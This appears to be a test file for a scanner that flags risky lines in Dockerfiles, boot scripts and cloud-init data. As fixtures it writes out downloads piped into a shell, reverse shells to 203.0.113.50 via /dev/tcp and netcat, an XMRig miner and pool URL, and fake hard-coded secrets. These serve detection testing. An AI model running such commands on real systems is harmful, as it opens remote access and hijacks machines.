import cryptoMiner from '../../../src/engine/rules/crypto-miner-software';
import cloudCredential from '../../../src/engine/rules/hard-coded-cloud-credential';
import password from '../../../src/engine/rules/hard-coded-password';
import miningPool from '../../../src/engine/rules/mining-pool-endpoint';
import privateKey from '../../../src/engine/rules/private-key-in-configuration';
import pipedIntoShell from '../../../src/engine/rules/remote-code-piped-into-shell';
import reverseShell from '../../../src/engine/rules/reverse-shell';
import { AWS_SECRET, keyLines, pem } from '../redact/fake-secrets';
import { ruleTester } from '../rule-tester';

// The script and credential rules on Dockerfiles, plain startup scripts and cloud-init user data.

ruleTester.run(pipedIntoShell, {
	flagged: [
		{
			name: 'curl piped into sh in a Dockerfile RUN',
			path: 'Dockerfile',
			source: `FROM debian:12-slim
RUN apt-get update && apt-get install -y curl ca-certificates
RUN curl -fsSL https://get.docker.com | sh
`,
			findings: [{ ruleId: 'AUP-EXE-001', line: 2, character: 4, endLine: 2, endCharacter: 42, text: 'curl -fsSL https://get.docker.com | sh', message: /^This script \('RUN' in this file\)/ }],
		},
		{
			name: 'a download piped into bash across continued RUN lines, with a comment line between',
			path: 'build/api.dockerfile',
			source: `FROM node:20-bookworm
RUN apt-get update \\
 && curl -fsSL https://deb.nodesource.com/setup_20.x \\
    # NodeSource's installer
    | bash - \\
 && apt-get install -y nodejs
`,
			findings: [{ ruleId: 'AUP-EXE-001', line: 2, character: 4, endLine: 4, endCharacter: 10, text: 'curl -fsSL https://deb.nodesource.com/setup_20.x \\\n    # NodeSource\'s installer\n    | bash' }],
		},
		{
			name: 'a health check that pipes a download into sh',
			path: 'Dockerfile',
			source: `FROM alpine:3.20
HEALTHCHECK --interval=1m CMD wget -qO- http://203.0.113.7/check.sh | sh
`,
			findings: [{ ruleId: 'AUP-EXE-001', line: 1, character: 30, endLine: 1, endCharacter: 72, text: 'wget -qO- http://203.0.113.7/check.sh | sh' }],
		},
		{
			name: 'curl piped into bash in a cloud-init runcmd, as a string and as sh -c',
			path: 'cloud-init/web.yaml',
			source: `#cloud-config
package_update: true
runcmd:
  - curl -fsSL https://install.example.com/agent.sh | bash
  - [ sh, -c, "wget -qO- https://install.example.com/x.sh | sh" ]
`,
			findings: [
				{ ruleId: 'AUP-EXE-001', line: 3, character: 4, endLine: 3, endCharacter: 58, text: 'curl -fsSL https://install.example.com/agent.sh | bash' },
				{ ruleId: 'AUP-EXE-001', line: 4, character: 15, endLine: 4, endCharacter: 62, text: 'wget -qO- https://install.example.com/x.sh | sh' },
			],
		},
		{
			name: 'a piped install in a boot script, and one suppressed with its reason',
			path: 'scripts/boot.sh',
			source: `#!/bin/bash
set -euo pipefail
curl -sL https://raw.githubusercontent.com/acme/tools/main/setup.sh | sudo bash
curl -fsSL https://artifacts.internal.example/bootstrap | sh # aup-guard-ignore AUP-EXE-001: our artifact store, TLS only
`,
			findings: [
				{ ruleId: 'AUP-EXE-001', line: 2, character: 0, endLine: 2, endCharacter: 79, text: 'curl -sL https://raw.githubusercontent.com/acme/tools/main/setup.sh | sudo bash' },
				{ ruleId: 'AUP-EXE-001', line: 3, character: 0, endLine: 3, endCharacter: 60, text: 'curl -fsSL https://artifacts.internal.example/bootstrap | sh', suppressed: 'our artifact store, TLS only' },
			],
		},
	],
	clean: [
		{
			name: 'a download checked against its checksum before it runs, in a boot script',
			path: 'scripts/boot.sh',
			source: `#!/bin/bash
set -euo pipefail
curl -fsSLo /tmp/agent.sh https://install.example.com/agent.sh && sha256sum -c /opt/agent.sha256 && sh /tmp/agent.sh
# never do: curl https://install.example.com/agent.sh | sh
echo "curl x | sh is unsafe"
`,
		},
		{
			name: 'a Dockerfile that downloads to a file and unpacks a tarball from a pipe',
			path: 'Dockerfile',
			source: `FROM ubuntu:24.04
# RUN curl -fsSL https://get.docker.com | sh
RUN curl -fsSLo /tmp/helm.tgz https://get.helm.sh/helm-v3.15.0-linux-amd64.tar.gz \\
 && echo "a1b2c3d4  /tmp/helm.tgz" | sha256sum -c - \\
 && tar -xzf /tmp/helm.tgz -C /usr/local/bin --strip-components=1
RUN curl -fsSL https://example.com/data.tar.gz | tar xz -C /srv
CMD ["bash", "-c", "exec /usr/local/bin/helm version"]
`,
		},
		{
			name: 'a Terraform template that writes an install script but only runs it after checking it',
			path: 'templates/user_data.tftpl',
			source: `#!/bin/bash
curl -fsSLo /tmp/install.sh \${installer_url}
echo "\${installer_sha256}  /tmp/install.sh" | sha256sum -c -
bash /tmp/install.sh
`,
		},
	],
});

ruleTester.run(cryptoMiner, {
	flagged: [
		{
			name: 'an XMRig image as a build stage',
			path: 'Dockerfile',
			source: `FROM xmrig/xmrig:6.21.0 AS worker
FROM ubuntu:24.04
COPY --from=worker /xmrig/xmrig /usr/local/bin/
`,
			findings: [{ ruleId: 'AUP-MIN-001', line: 0, character: 5, endLine: 0, endCharacter: 10, text: 'xmrig', message: /^Container image 'xmrig\/xmrig:6.21.0'/ }],
		},
		{
			name: 'an exec-form CMD that runs a miner',
			path: 'Dockerfile',
			source: `FROM alpine:3.20
COPY bin/ /opt/bin/
CMD ["/opt/bin/xmrig", "--config=/etc/xmrig.json"]
`,
			findings: [{ ruleId: 'AUP-MIN-001', line: 2, character: 15, endLine: 2, endCharacter: 20, text: 'xmrig' }],
		},
		{
			name: 'a miner installed by a script that cloud-init writes and runs',
			path: 'user-data',
			source: `#cloud-config
write_files:
  - path: /usr/local/bin/start-worker.sh
    permissions: '0755'
    content: |
      cd /opt
      wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz
runcmd:
  - /usr/local/bin/start-worker.sh
`,
			findings: [{ ruleId: 'AUP-MIN-001', line: 6, character: 33, endLine: 6, endCharacter: 38, text: 'xmrig' }],
		},
	],
	clean: [
		{
			name: 'a determiner service image and a clean-up that kills a miner',
			path: 'Dockerfile',
			source: `FROM ghcr.io/acme/determiner:2.4
RUN pkill xmrig || true
`,
		},
		{
			name: 'a cloud-init file that only mentions a miner in a config file it writes',
			path: 'user-data.yaml',
			source: `#cloud-config
write_files:
  - path: /etc/falco/rules.d/miners.yaml
    content: |
      - list: miner_binaries
        items: [xmrig, ethminer]
`,
		},
	],
});

ruleTester.run(miningPool, {
	flagged: [
		{
			name: 'a Stratum pool in an exec-form CMD',
			path: 'Dockerfile',
			source: `FROM alpine:3.20
CMD ["/opt/miner", "-o", "stratum+tcp://pool.supportxmr.com:3333"]
`,
			findings: [{ ruleId: 'AUP-MIN-002', line: 1, character: 26, endLine: 1, endCharacter: 64, text: 'stratum+tcp://pool.supportxmr.com:3333' }],
		},
	],
	clean: [
		{
			name: 'a label that describes blocked pools',
			path: 'Dockerfile',
			source: `FROM alpine:3.20
LABEL description="egress proxy that blocks stratum+tcp:// pools"
`,
		},
	],
});

ruleTester.run(reverseShell, {
	flagged: [
		{
			name: 'a reverse shell in a boot script',
			path: 'scripts/boot.sh',
			source: `#!/bin/bash
systemctl enable --now nginx
bash -i >& /dev/tcp/203.0.113.50/4444 0>&1 &
`,
			findings: [{ ruleId: 'AUP-ATK-001', line: 2, character: 0, endLine: 2, endCharacter: 42, text: 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1' }],
		},
		{
			name: 'a netcat shell in a RUN heredoc',
			path: 'Dockerfile',
			source: `FROM debian:12
RUN <<EOF
apt-get update
nc -e /bin/sh 203.0.113.50 4444
EOF
`,
			findings: [{ ruleId: 'AUP-ATK-001', line: 3, character: 0, endLine: 3, endCharacter: 31, text: 'nc -e /bin/sh 203.0.113.50 4444' }],
		},
	],
	clean: [
		{
			name: 'a port check in a boot script',
			path: 'scripts/wait-for-db.sh',
			source: `#!/bin/sh
until nc -z db.internal 5432; do sleep 1; done
timeout 1 bash -c "</dev/tcp/db.internal/5432"
`,
		},
	],
});

ruleTester.run(cloudCredential, {
	flagged: [
		{
			name: 'an AWS secret access key in ENV',
			path: 'Dockerfile',
			source: `FROM amazon/aws-cli:2.17.0
ENV AWS_DEFAULT_REGION=eu-west-1 AWS_SECRET_ACCESS_KEY=${AWS_SECRET}
`,
			findings: [{ ruleId: 'AUP-CRD-001', line: 1, character: 55, endLine: 1, endCharacter: 95, text: AWS_SECRET, message: /^AWS secret access key hard-coded in 'AWS_SECRET_ACCESS_KEY' in this file/ }],
		},
	],
	clean: [
		{
			name: 'a build argument without a value and an ENV that expands it',
			path: 'Dockerfile',
			source: `FROM amazon/aws-cli:2.17.0
ARG AWS_SECRET_ACCESS_KEY
ENV AWS_SECRET_ACCESS_KEY=\${AWS_SECRET_ACCESS_KEY}
`,
		},
	],
});

ruleTester.run(password, {
	flagged: [
		{
			name: 'a database password in ENV, quoted',
			path: 'Dockerfile',
			source: `FROM postgres:16
ENV POSTGRES_USER=app POSTGRES_PASSWORD="Tr0ub4dor&3"
`,
			findings: [{ ruleId: 'AUP-CRD-003', line: 1, character: 41, endLine: 1, endCharacter: 52, text: 'Tr0ub4dor&3' }],
		},
	],
	clean: [
		{
			name: 'a password file path and a Docker secret',
			path: 'Dockerfile',
			source: `FROM postgres:16
ENV POSTGRES_PASSWORD_FILE=/run/secrets/db_password
RUN --mount=type=secret,id=db_password cat /run/secrets/db_password > /dev/null
`,
		},
	],
});

ruleTester.run(privateKey, {
	flagged: [
		{
			name: 'a private key written by cloud-init',
			path: 'user-data',
			source: `#cloud-config
write_files:
  - path: /etc/ssl/private/app.key
    permissions: '0600'
    content: |
      ${pem('RSA PRIVATE KEY', keyLines(3, 40), '\n      ')}
`,
			findings: [{ ruleId: 'AUP-CRD-002', line: 5, character: 6, endLine: 9, endCharacter: 35, text: pem('RSA PRIVATE KEY', keyLines(3, 40), '\n      ') }],
		},
	],
	clean: [
		{
			name: 'a certificate and a public key written by cloud-init',
			path: 'user-data',
			source: `#cloud-config
ssh_authorized_keys:
  - ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGmFakeKeyForTestsOnly deploy@ci
write_files:
  - path: /etc/ssl/certs/app.pem
    content: |
      ${pem('CERTIFICATE', keyLines(3, 50), '\n      ')}
`,
		},
	],
});
